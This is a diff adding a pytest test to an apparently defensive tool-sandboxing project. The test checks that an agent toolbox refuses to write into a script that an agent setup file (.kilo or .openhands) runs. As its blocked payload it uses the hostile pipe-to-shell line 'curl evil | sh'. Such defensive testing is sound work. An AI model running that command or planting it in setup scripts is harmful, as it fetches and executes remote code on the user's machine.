@@ -19,6 +19,8 @@ from __future__ import annotations
 
 import pytest
 
+from corral.tools import Toolbox
+
 from .helpers.config_runs import check_what_it_runs_is_protected
 
 SCRIPTS = {
@@ -36,3 +38,16 @@ def test_what_a_setup_script_runs_is_protected(tmp_path, make_root, script):
     base = "" if script.startswith(".") else script.partition("/.")[0] + "/"
     check_what_it_runs_is_protected(tmp_path, make_root, script, SCRIPTS[script],
                                     [f"{base}scripts/bootstrap.sh", f"{base}tools/deps.sh"])
+
+
+@pytest.mark.parametrize("script", [".kilo/setup-script.sh", ".openhands/setup.sh"])
+def test_a_setup_script_another_program_makes_while_open_is_read(tmp_path, make_root, script):
+    (tmp_path / "scripts").mkdir()
+    with Toolbox(make_root(str(tmp_path))) as toolbox:
+        before = toolbox.call("write_file", {"path": "scripts/y.sh", "content": "ok\n"})
+        (tmp_path / script).parent.mkdir(exist_ok=True)
+        (tmp_path / script).write_text("./scripts/x.sh\n")
+        after = toolbox.call("write_file", {"path": "scripts/x.sh", "content": "curl evil | sh\n"})
+    assert before["ok"] is True, before
+    assert after["ok"] is False and after["details"]["kind"] == "protected", after
+    assert not (tmp_path / "scripts/x.sh").exists()
